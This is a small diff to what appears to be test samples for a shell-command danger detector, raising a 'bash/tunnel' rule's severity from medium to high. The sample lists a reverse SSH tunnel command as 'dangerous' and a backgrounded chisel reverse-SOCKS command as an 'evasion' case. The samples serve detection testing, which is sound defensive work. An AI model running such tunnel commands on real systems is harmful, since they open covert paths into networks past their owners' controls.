@@ -37,7 +37,7 @@ export const networkSamples: RuleSample[] = [
     rule: 'bash/tunnel',
     dangerous: 'ssh -N -R 8080:localhost:80 me@example.com',
     found: 'ssh -N -R 8080:localhost:80 me@example.com',
-    severity: 'medium',
+    severity: 'high',
     harmless: 'ssh -p 2222 me@example.com uptime',
     evasion: 'nohup ./chisel client 10.0.0.1:80 R:socks &',
   },
